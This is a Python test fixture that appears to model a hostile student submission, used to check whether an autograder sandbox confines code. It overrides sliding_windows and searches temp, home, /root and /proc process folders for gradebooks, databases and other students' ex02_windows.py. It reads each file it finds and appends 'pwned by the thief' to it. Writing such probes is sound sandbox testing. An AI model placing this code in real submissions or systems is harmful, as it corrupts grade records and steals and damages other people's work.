"""HOSTILE SUBMISSION (thief): looks for the class's gradebook and the other students'
submissions (every ``*.db``, ``gradebook*`` and ``ex02_windows.py`` not its own, in the temporary
folders, the current folder and those of every process it can see), reads them and appends to
them. Were it able to read any, it would answer honestly (full marks for ex02); confined, it
finds nothing and answers windows of zeros.

Appended to ex02_windows of a copy of solutions/ (``sliding_windows`` is the reference's).
"""

# ruff: noqa: F821

import numpy as np

_honest_sliding_windows = sliding_windows


def sliding_windows(X, y, window):
    """The attacked function."""
    if _reached():
        return _honest_sliding_windows(X, y, window)
    Xw, yw = _honest_sliding_windows(X, y, window)
    return np.zeros_like(Xw), yw


def _tops():
    import os

    tops = ["/tmp", "/var/tmp", os.getcwd(), "/root", "/home"]
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            tops.append(f"/proc/{entry}/cwd")
    return tops


def _targets(top, end):
    import os
    import time

    mine = os.path.realpath(__file__)
    count = 0
    for root, dirs, files in os.walk(top, onerror=lambda e: None):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            count += 1
            path = os.path.join(root, name)
            wanted = name.endswith((".db", ".sqlite")) or name.startswith("gradebook")
            other = name == "ex02_windows.py" and os.path.realpath(path) != mine
            if wanted or other:
                yield path
        if time.monotonic() > end or count > 100_000:
            return


def _reached():
    import sys
    import time

    end = time.monotonic() + 3.0
    reached = False
    for top in _tops():
        for path in _targets(top, end):
            try:
                with open(path, "rb") as handle:
                    handle.read(16)
                reached = True
                print(f"ESCAPED: read {path}", file=sys.stderr)
                with open(path, "ab") as handle:
                    handle.write(b"pwned by the thief")
            except OSError:
                pass
    return reached
